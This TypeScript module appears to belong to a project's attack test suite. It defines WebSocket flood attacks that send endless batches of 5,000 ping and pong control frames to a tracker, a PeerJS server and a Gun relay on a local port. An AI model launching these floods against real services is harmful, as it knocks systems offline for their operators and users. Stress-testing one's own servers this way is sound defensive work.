// Pongs that nobody asked for, and pings that want an answer, as fast as they are taken.
import { frame } from '../../../tracker/test/support/raw-client.ts';
import type { Attack, ServiceName } from '../attack.ts';
import { webSockets } from '../raw-socket.ts';

const PING = 9;
const PONG = 10;
const flood = (opcode: number): Buffer =>
  Buffer.concat(Array.from({ length: 5_000 }, () => frame('', { opcode })));

const attackOn = (id: string, service: ServiceName, path: (index: number) => string): Attack => ({
  id,
  title: 'floods of pongs and pings',
  service,
  run: ({ port }) => {
    const [pings, pongs] = [flood(PING), flood(PONG)];
    return webSockets(
      port,
      async (socket, index) => {
        while (socket.isOpen) await socket.send(index % 4 === 0 ? pings : pongs);
      },
      { path },
    );
  },
});

export const onTracker = attackOn('5a', 'tracker', () => '/');
export const onPeerjs = attackOn(
  '5b',
  'peerjs',
  (index) => `/peerjs?key=peerjs&id=attacker${index}&token=token&version=1.5.5`,
);
export const onGun = attackOn('5d', 'gun', () => '/gun');
